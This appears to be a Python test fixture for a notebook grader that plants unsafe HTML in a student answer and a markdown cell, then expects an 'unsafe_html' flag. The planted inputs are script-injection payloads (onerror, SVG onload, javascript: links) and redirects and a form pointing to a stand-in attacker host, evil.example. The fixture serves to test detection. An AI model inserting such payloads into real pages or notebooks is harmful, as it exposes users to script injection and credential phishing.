"""Raw HTML in markdown outputs, SVG outputs with script, ``javascript:`` links, a meta refresh,
``<base href>`` and a ``<form>`` in HTML outputs, and the same in a plain written cell.
"""

RUN = "window.__pwned=(window.__pwned||0)+1;document.title='PWNED'"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="' + RUN + '"><script>' + RUN
_SVG += "</script></svg>"
_SHOWN = [
    ("Markdown", '<img src=x onerror="' + RUN + '"> [see](javascript:' + RUN + ")"),
    ("HTML", '<svg><a href="javascript:' + RUN + '"><text y="20">x</text></a></svg>'),
    ("HTML", '<meta http-equiv="refresh" content="0;url=https://evil.example/login">'),
    ("HTML", '<base href="https://evil.example/"><a href="next">next</a>'),
    ("HTML", '<form action="https://evil.example/steal"><button>Save</button></form>'),
]
_CODE = "from IPython.display import HTML, Markdown, display\n"
_CODE += "".join(f"display({kind}({text!r}))\n" for kind, text in _SHOWN)
_CODE += f"display({{{{'image/svg+xml': {_SVG!r}}}}}, raw=True)"

ANSWERS = {
    "q1": "weights = np.exp([1.0, 2.0, 3.0]) / np.exp([1.0, 2.0, 3.0]).sum()\n" + _CODE,
}
EXTRA_CELLS = [
    {
        "after": "q3",
        "cell_type": "markdown",
        "source": (
            '<meta http-equiv="refresh" content="0;url=https://evil.example/login">\n\n'
            '<base href="https://evil.example/">\n\n'
            f'[my notes](javascript:{RUN}) <a href="javascript:{RUN}">more</a>'
        ),
    }
]
EXPECT_SCORE = 3
EXPECT_FLAGS = {"unsafe_html"}
